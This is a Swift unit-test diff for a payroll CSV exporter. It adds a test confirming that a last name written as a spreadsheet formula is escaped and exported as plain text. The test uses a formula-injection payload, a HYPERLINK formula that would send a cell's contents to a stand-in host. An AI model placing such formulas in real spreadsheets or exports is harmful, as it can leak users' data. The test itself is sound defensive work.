@@ -28,6 +28,20 @@ final class PayrollExportCSVTests: XCTestCase {
         XCTAssertTrue(file.text.contains("\r\nAC-000101;Van den Bossche, Éloïse;21;18;1;2;"), file.text)
     }
 
+    /// A last name typed as a formula opens as text in a spreadsheet; the day counts stay numbers.
+    func testANameThatIsAFormulaIsWrittenAsText() throws {
+        let database = try QueueFixture.closingOnly()
+        let rules = try RuleBook.bundled()
+        var rows = try database.payrollExport(employerCode: "AC-IXL", month: try YearMonth.parse("2026-11"), rules: rules)
+        let index = try XCTUnwrap(rows.firstIndex { $0.dossierNumber == "AC-000101" })
+        rows[index].lastName = "=HYPERLINK(\"http://x?\"&A2,\"De Coster\")"
+        let text = PayrollExportCSV.file(rows: rows, catalogue: rules.absenceCatalogue).text
+        XCTAssertTrue(text.contains("\r\nAC-000101;\"'=HYPERLINK(\"\"http://x?\"\"&A2,\"\"De Coster\"\"), Éloïse\";21;"), text)
+        let parsed = try CSVTable.parse(text, separator: ";")
+        XCTAssertEqual(parsed.first { $0.fields.first == "AC-000101" }?.fields[1],
+                       "=HYPERLINK(\"http://x?\"&A2,\"De Coster\"), Éloïse")
+    }
+
     func testHalfDaysUseTheDecimalComma() {
         XCTAssertEqual(PayrollExportCSV.days(18.5), "18,5")
         XCTAssertEqual(PayrollExportCSV.days(19), "19")
